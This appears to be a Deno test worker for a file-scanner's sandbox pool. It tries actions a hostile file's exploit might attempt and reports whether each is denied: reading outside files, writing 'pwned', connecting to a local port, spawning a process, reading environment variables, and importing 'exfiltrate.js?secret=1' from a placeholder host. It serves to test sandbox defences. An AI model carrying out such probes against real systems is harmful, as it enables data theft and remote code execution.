/// <reference lib="deno.worker" />
// A stand-in scan worker for the pool tests: it tries what a hostile file's
// exploit would try from inside a scan worker, and reports what happened.
import type { SourceScanOutcome } from "../../engine/dispatch.ts";
import type { FileTask } from "../../engine/scan_file.ts";
import { markStarted, type WorkerRequest } from "../../engine/worker_protocol.ts";

async function attempt(action: () => Promise<unknown>): Promise<string> {
  try {
    await action();
    return "allowed";
  } catch (error) {
    // Module loading reports a missing permission as a TypeError rather than NotCapable.
    const denied = error instanceof Deno.errors.NotCapable || /Requires \w+ access/.test(String(error));
    return denied ? "denied" : `failed: ${error}`;
  }
}

async function probe(task: FileTask, batchSize: number): Promise<SourceScanOutcome> {
  const [mode, ...args] = task.path.split("|");
  if (mode === "batch") {
    return { format: "probe", findings: [], bytesScanned: 0, error: `batch of ${batchSize}` };
  }
  if (mode === "throw") throw new Error("probe exploded");
  if (mode === "hang") { for (;;) { /* spin until terminated */ } }
  if (mode === "ok") return { format: "probe", findings: [], bytesScanned: 0 };
  const [outside, writeTarget, port] = args;
  const results = {
    readTarget: await attempt(() => Deno.readFile(task.realPath)),
    readOutside: await attempt(() => Deno.readFile(outside)),
    // Its own code folders, which it loads scanners from, and nothing else of the project.
    readOwnCode: await attempt(() => Deno.readFile(new URL("../../scanners/registry.ts", import.meta.url))),
    readProject: await attempt(() => Deno.readFile(new URL("../../deno.json", import.meta.url))),
    readTests: await attempt(() => Deno.readFile(new URL(import.meta.url))),
    write: await attempt(() => Deno.writeTextFile(writeTarget, "pwned")),
    connect: await attempt(async () =>
      (await Deno.connect({ hostname: "127.0.0.1", port: Number(port) })).close()
    ),
    spawn: await attempt(() => new Deno.Command("true").output()),
    env: await attempt(() => Promise.resolve(Deno.env.get("HOME"))),
    // deno-lint-ignore no-import-prefix
    remoteImport: await attempt(() => import("https://modelaudit.invalid/exfiltrate.js?secret=1")),
  };
  return { format: "probe", findings: [], bytesScanned: 0, error: JSON.stringify(results) };
}

self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
  const outcomes = [];
  for (const [index, task] of event.data.tasks.entries()) {
    markStarted(event.data, index);
    outcomes.push(await probe(task, event.data.tasks.length));
  }
  self.postMessage({ id: event.data.id, outcomes });
};
